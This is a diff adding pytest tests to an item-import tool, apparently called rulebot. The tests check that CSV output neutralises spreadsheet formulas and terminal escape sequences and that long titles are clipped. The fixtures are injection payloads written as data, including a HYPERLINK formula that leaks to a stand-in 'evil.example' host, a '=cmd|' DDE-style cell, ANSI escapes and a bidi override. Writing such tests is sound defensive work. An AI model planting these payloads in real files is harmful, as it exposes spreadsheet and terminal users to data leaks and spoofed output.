@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import sqlite3
@@ -466,6 +468,70 @@ def test_library_text_is_escaped_in_plan_explain_errors_and_logs(
     assert "\x1b" not in err and "\\x1b]0;owned\\x07" in err
     line = err.strip().splitlines()[-1]
     assert line[:4].isdigit() and "T" in line[:11] and " rulebot: title Evil" in line
+
+
+def test_items_csv_and_json_neutralise_formulas_and_terminal_escapes_as_export_does(
+    workspace: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`items --format csv` is read by a spreadsheet and a terminal: no cell
+    starts a formula, no control character or bidi mark goes out raw. JSON
+    escapes them as \\u, so a reader gets the exact title back."""
+    rows = [
+        ('=HYPERLINK("http://evil.example/?leak","click")', "https://f.org/1", "=cmd|@x"),
+        ("+SUM(1)", "https://f.org/2", "-tag"),
+        ("@SUM(1+1)", "https://f.org/3", "ok"),
+        ("Evil \x1b[2J\x1b]0;owned\x07 \x9b31m title \u202eeman", "https://f.org/4", "ok"),
+    ]
+    lines = ["title,url,time_added,tags,status"]
+    for title, url, tags in rows:
+        quoted = title.replace('"', '""')
+        lines.append(f'"{quoted}",{url},{T - 45 * DAY},{tags},unread')
+    (workspace / "formulas.csv").write_text("\n".join(lines) + "\n")
+    assert rb(capsys, "import", "formulas.csv")[0] == 0
+    code, out, err = rb(capsys, "items", "--where", "{domain: f.org}", "--format", "csv")
+    assert code == 0, err
+    for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
+        assert raw not in out
+    table = list(csv.reader(io.StringIO(out)))
+    assert table[0] == ["item_id", "status", "favorite", "time_added", "tags", "title", "url"]
+    cells = [cell for row in table[1:] for cell in row]
+    assert len(table) == 5 and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    titles = [row[5] for row in table[1:]]
+    assert titles[:3] == ["'" + title for title, _, _ in rows[:3]]  # as `export` writes them
+    assert titles[3] == "Evil \\x1b[2J\\x1b]0;owned\\x07 \\x9b31m title \\u202eeman"
+    assert [row[4] for row in table[1:3]] == ["'=cmd,@x", "'-tag"]
+    # the same cells in an export file: formula-guarded (text kept exact there)
+    assert rb(capsys, "export", "out.csv")[0] == 0
+    exported = list(csv.reader(io.StringIO((workspace / "out.csv").read_text())))
+    assert "'+SUM(1)" in [row[0] for row in exported]
+    # JSON: escaped for the terminal, the exact text for a reader
+    code, out, _ = rb(capsys, "items", "--where", "{domain: f.org}", "--format", "json")
+    assert code == 0 and "\x9b" not in out and "\u202e" not in out
+    assert [row["title"] for row in json.loads(out)] == [title for title, _, _ in rows]
+
+
+def test_a_100000_character_title_is_clipped_in_items_and_explain_not_in_json(
+    workspace: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    title = "Long " + "x" * 100_000 + " end"
+    url = "https://g.org/" + "p" * 5_000
+    tags = "|".join(f"tag{n:04d}" for n in range(2_000))
+    (workspace / "long.csv").write_text(
+        f"title,url,time_added,tags,status\n{title},{url},{T - 45 * DAY},{tags},unread\n"
+    )
+    assert rb(capsys, "import", "long.csv")[0] == 0
+    with Store.open(workspace / ".rulebot" / "rulebot.db") as store:
+        long = store.find_by_url(url)
+    assert long is not None
+    for args in (("items", "--where", "{domain: g.org}"), ("explain", long.item_id)):
+        code, out, err = rb(capsys, *args, "--now", NOW)
+        assert code == 0, err
+        widest = max(len(line) for line in out.splitlines())
+        assert widest <= 400 and "Long xxx" in out and "…" in out, (args, widest)
+    code, out, _ = rb(capsys, "items", "--where", "{domain: g.org}", "--format", "json")
+    assert code == 0 and json.loads(out)[0]["title"] == title  # whole where a program reads it
+    code, out, _ = rb(capsys, "explain", long.item_id, "--format", "json", "--now", NOW)
+    assert code == 0 and json.loads(out)["item"]["url"] == url
 
 
 def test_reapplying_a_saved_plan_skips_account_wide_actions_already_done(
